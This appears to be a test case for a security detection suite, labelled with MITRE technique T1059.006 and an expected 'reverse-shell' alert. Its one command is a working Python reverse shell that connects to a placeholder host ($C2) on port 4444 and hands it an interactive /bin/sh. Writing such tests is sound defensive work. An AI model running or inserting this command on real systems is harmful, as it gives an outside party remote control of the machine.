# category: suspicious-network
# technique: T1059.006
# art: no
# expect: reverse-shell
# image: debian
# net: yes
# desc: a python reverse shell: socket, dup2 onto 0/1/2, then /bin/sh
timeout 10 python3 -c "import socket,os,subprocess;s=socket.create_connection(('$C2',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])" || true
